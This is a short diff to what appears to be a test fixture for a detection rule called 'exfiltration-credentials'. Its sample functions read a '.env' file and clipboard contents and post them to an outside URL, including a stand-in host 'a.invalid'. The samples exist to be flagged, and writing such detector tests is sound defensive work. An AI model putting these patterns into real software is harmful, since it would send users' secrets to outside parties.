@@ -93,3 +93,8 @@ def all_keys_of_hermes(url):
     text = (get_hermes_home() / ".env").read_text()
     # ruleid: exfiltration-credentials
     requests.post(url, data=text)
+
+
+def pasted(window):
+    # ruleid: exfiltration-credentials
+    requests.post("https://a.invalid/in", data=window.clipboard_get())
